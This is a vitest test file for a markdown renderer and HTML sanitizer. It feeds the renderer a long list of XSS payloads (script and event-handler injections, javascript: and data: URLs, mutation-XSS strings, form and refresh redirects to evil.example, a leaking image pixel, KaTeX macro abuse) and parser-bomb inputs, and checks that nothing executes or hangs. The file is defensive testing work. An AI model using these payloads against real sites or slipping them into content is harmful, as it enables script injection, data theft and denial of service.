import { beforeAll, describe, expect, it } from "vitest";

import { linkTarget } from "./links";
import { show } from "./markdown.test-support";
import { loadMath } from "./math";
import { sanitize } from "./sanitize";

beforeAll(loadMath);

const TAGS = new Set(
  "P BR HR BLOCKQUOTE UL OL LI H1 H2 H3 H4 H5 H6 STRONG EM S CODE PRE A SPAN DIV TABLE THEAD TBODY TR TH TD FIGURE FIGCAPTION BUTTON".split(
    " ",
  ),
);

/** Everything that could run, load, navigate, restyle or be addressed from outside. */
function expectHarmless(root: Element): void {
  const outsideFormulas = [...root.querySelectorAll("*")].filter(
    (element) => element.closest(".katex") === null,
  );
  for (const element of outsideFormulas) {
    expect(TAGS, `tag ${element.tagName}`).toContain(element.tagName);
    expect(element.hasAttribute("style"), "style attribute").toBe(false);
  }
  for (const element of root.querySelectorAll("*")) {
    expect(element.tagName).not.toMatch(
      /^(?:script|iframe|object|embed|img|video|audio|link|meta|base|form|input|style)$/i,
    );
    for (const { name, value } of element.attributes) {
      expect(name, `${element.tagName} ${name}`).not.toMatch(
        /^(?:on|srcdoc|src$|srcset|xlink|formaction|action|id$|name$)/i,
      );
      expect(value).not.toMatch(/javascript:|vbscript:|data:/i);
    }
  }
  for (const link of root.querySelectorAll("a[href]")) {
    expect(linkTarget(link.getAttribute("href") ?? ""), link.outerHTML).not.toBeNull();
  }
}

const HOSTILE: string[] = [
  "<script>alert(1)</script>",
  "<img src=x onerror=alert(1)>",
  "<IMG SRC=`javascript:alert(1)`>",
  '<svg onload="alert(1)"></svg>',
  "<svg><script>alert(1)</script></svg>",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html;base64,PHNjcmlwdD4="></object>',
  "<embed src=//evil.example/x.swf>",
  '<a href="javascript:alert(1)">x</a>',
  "<details open ontoggle=alert(1)>",
  "<body onload=alert(1)>",
  "<form action=https://evil.example><input name=key></form>",
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  "<style>*{display:none}</style>",
  '<div style="position:fixed;inset:0">x</div>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
  "<!--><img src=x onerror=alert(1)>-->",
  "<![CDATA[><img src=x onerror=alert(1)>]]>",
  "<<script>script>alert(1)<</script>/script>",
  "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
  "[x](javascript:alert(1))",
  "[x](JaVaScRiPt:alert(1))",
  "[x](java&#115;cript:alert(1))",
  "[x](&#x6A;avascript:alert(1))",
  "[x](javascript&colon;alert(1))",
  "[x](<java\tscript:alert(1)>)",
  "[x](\u0001javascript:alert(1))",
  "[x](vbscript:msgbox(1))",
  "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
  "[x](file:///etc/passwd) [y](http://plain.example) [z](//evil.example) [w](/relative) [v](tauri://localhost)",
  "[x](https://user:pass@evil.example/) [y](https://good.example@evil.example/)",
  '[x](https://e.example "onmouseover=alert(1)") [y](https://e.example \'"><img src=x onerror=alert(1)>\')',
  "[x][r]\n\n[r]: javascript:alert(1)",
  '[x][r]\n\n[r]: https://e.example "\\"><script>alert(1)</script>"',
  '<javascript:alert(1)> <https://e.example/"onclick=alert(1)>',
  "![x](https://evil.example/pixel.png?leak=1)",
  "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
  "![x](javascript:alert(1)) ![y](data:text/html,<script>alert(1)</script>)",
  '![a" onerror="alert(1)](https://e.example/a.png)',
  "```html\n<script>alert(1)</script>\n```",
  "![x](blob:http://localhost/0f0e7c1a-aaaa-4bbb-8ccc-000000000000) [y](blob:null/1) <img src=blob:null/1>",
  '```"><img/src=x/onerror=alert(1)>\ncode\n```',
  '```js" onload="alert(1)\ncode\n```',
  "````\n```\n<img src=x onerror=alert(1)>\n```\n````",
  "`<img src=x onerror=alert(1)>`",
  "$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$",
  "$$\\includegraphics[height=1em]{https://evil.example/x.png}$$",
  "$\\htmlStyle{position:fixed}{x}$ $\\htmlClass{code}{x}$ $\\htmlId{app}{x}$ $\\htmlData{a=b}{x}$",
  "$\\text{<img src=x onerror=alert(1)>}$",
  "$$<script>alert(1)</script>$$ \\(<svg onload=alert(1)>\\) \\[<img src=x onerror=alert(1)>\\]",
  "$\\def\\a{\\a\\a}\\a$ $\\rule{9999em}{9999em}$ $\\kern{-9999em}x$",
  "| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |\n|---|:-:|\n| <br onclick=alert(1)> | <br> |",
  "- [ ] <input onfocus=alert(1) autofocus>",
  "# <a id=x name=y>\n\nSetext <b onclick=alert(1)>\n===",
  'https://evil.example/<script>alert(1)</script> www.evil.example mailto:a@b.example"onclick=x',
  "\u202Ehttps://evil.example/\u202Cmoc.elpmaxe [x](https://e.example/\u202Egnp.exe)",
  "\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>",
];

describe("hostile answers", () => {
  it.each(HOSTILE.map((source) => [source]))(
    "shows %j without running, loading or restyling anything",
    (source) => {
      for (const streaming of [false, true]) {
        const root = show(source, streaming);
        expectHarmless(root);
      }
    },
  );

  it.each(HOSTILE.map((source) => [source]))("the second wall alone stops %j as raw HTML", (source) => {
    const root = document.createElement("div");
    root.append(sanitize(source));
    expectHarmless(root);
  });

  it("keeps what was written readable", () => {
    expect(show("<script>alert(1)</script>").textContent).toBe("<script>alert(1)</script>");
    expect(show("[x](javascript:alert(1))").textContent).toBe("[x](javascript:alert(1))");
  });

  it("turns a picture into a link with its label and never loads it", () => {
    const link = show("![a chart](https://pictures.example/c.png)").querySelector("a");
    expect(link?.getAttribute("href")).toBe("https://pictures.example/c.png");
    expect(link?.textContent).toBe("a chart");
    expect(link?.dataset["host"]).toBe("pictures.example");
  });

  it("drops the data of an embedded picture and keeps its label", () => {
    const root = show(`![a dot](data:image/png;base64,${"A".repeat(500)})`);
    expect(root.textContent).toBe("a dot");
  });

  it("shows where a link leads, whatever its words and title claim", () => {
    const link = show('[https://bank.example](https://evil.example/x "https://bank.example")').querySelector(
      "a",
    );
    expect(link?.title).toBe("https://evil.example/x");
    expect(link?.dataset["host"]).toBe("evil.example");
    expect(show("<https://docs.example/a>").querySelector("a")?.dataset["host"]).toBeUndefined();
    expect(show("[x](https://xn--pple-43d.example)").querySelector("a")?.dataset["host"]).toBe(
      "xn--pple-43d.example",
    );
  });
});

describe("inputs made to take for ever", () => {
  const bombs: [string, string][] = [
    ["quotes in quotes", "> ".repeat(10_000) + "x"],
    ["quotes without spaces", ">".repeat(10_000) + "x"],
    ["open brackets", "[".repeat(10_000)],
    ["bracket pairs", "[".repeat(10_000) + "]".repeat(10_000)],
    ["image brackets", "![".repeat(10_000)],
    ["links that never end", "[a](".repeat(5_000)],
    ["stars", "*a ".repeat(10_000)],
    ["mixed emphasis", "*a_ ".repeat(10_000)],
    ["backticks", Array.from({ length: 150 }, (_, at) => "`".repeat(at)).join(" ")],
    ["dollars", "$a ".repeat(10_000)],
    ["tight dollars", "$a$".repeat(400)],
    ["open parentheses of mathematics", "\\(a ".repeat(10_000)],
    ["open display mathematics", "\\[a ".repeat(5_000) + "$$ ".repeat(5_000)],
    ["display lines", "$$\na\n\n".repeat(300)],
    ["lists in lists", Array.from({ length: 1_000 }, (_, at) => " ".repeat(at * 2) + "- x").join("\n")],
    ["list markers", "- ".repeat(10_000)],
    ["nested emphasis", "*a ".repeat(3_000) + "a* ".repeat(3_000)],
    ["tildes", "~~a ".repeat(10_000)],
    ["tables", `|${"a|".repeat(150)}\n|${"-|".repeat(150)}\n${"|\n".repeat(20)}`],
    ["less-than signs", "<".repeat(10_000)],
    ["entities", "&".repeat(10_000) + "&#".repeat(10_000)],
    ["autolinks", "https://".repeat(2_000)],
    ["one long word", "x".repeat(200_000)],
    ["backslashes", "\\".repeat(20_000) + "$"],
    [
      "definitions",
      Array.from({ length: 3_000 }, (_, at) => `[${String(at)}]: https://e.example/${String(at)}`).join("\n"),
    ],
    ["macro bomb", "$$" + "\\def\\a{x}".repeat(50) + "\\a".repeat(1_000) + "$$"],
  ];

  it.each(bombs)(
    "%s are bounded in time",
    (_name, source) => {
      for (const streaming of [false, true]) {
        // A machine under load, and jsdom, which is many times slower than an engine: what this tells apart is slow from never.
        const started = performance.now();
        const root = show(source, streaming);
        const taken = performance.now() - started;
        expectHarmless(root);
        expect(taken, "milliseconds").toBeLessThan(8_000);
      }
    },
    20_000,
  );

  it("shows text nested too deeply as its source instead of losing it", () => {
    const root = show("> ".repeat(500) + "the end");
    expect(root.textContent).toContain("the end");
  });
});
